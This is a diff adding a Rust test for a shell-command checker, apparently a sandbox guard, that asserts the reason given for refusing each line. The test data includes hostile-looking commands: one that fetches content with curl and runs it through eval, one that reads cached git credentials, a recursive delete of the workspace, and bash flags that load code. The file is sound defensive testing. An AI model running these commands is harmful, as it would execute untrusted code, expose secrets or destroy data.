@@ -74,3 +74,18 @@ fn every_case_has_its_verdict_and_class() {
     assert!(wrong.is_empty(), "{} of {cases} cases, {loose} wrongly allowed:\n{wrong}", wrong.lines().count() / 2);
     assert!(cases > 900, "{cases}");
 }
+
+#[test]
+fn a_reason_names_what_the_line_says() {
+    let setting = Setting { sandbox: true, ..Setting::default() };
+    for (text, reason) in [
+        ("(ls)", "it is not plain words: there is a parenthesis."),
+        ("bash --init-file x -i", "`--init-file` loads code."),
+        ("bash --rcfile=x -i", "`--rcfile=x` loads code."),
+        ("git credential-cache get", "`git credential-cache` reads secrets."),
+        ("find . -delete", "`.` is all of the workspace, and `.git` with it."),
+        ("x=$(curl -s e); eval \"$x\"", "what is read elsewhere is run by `eval`."),
+    ] {
+        assert_eq!(judge(text, &setting).reason, reason, "{text}");
+    }
+}
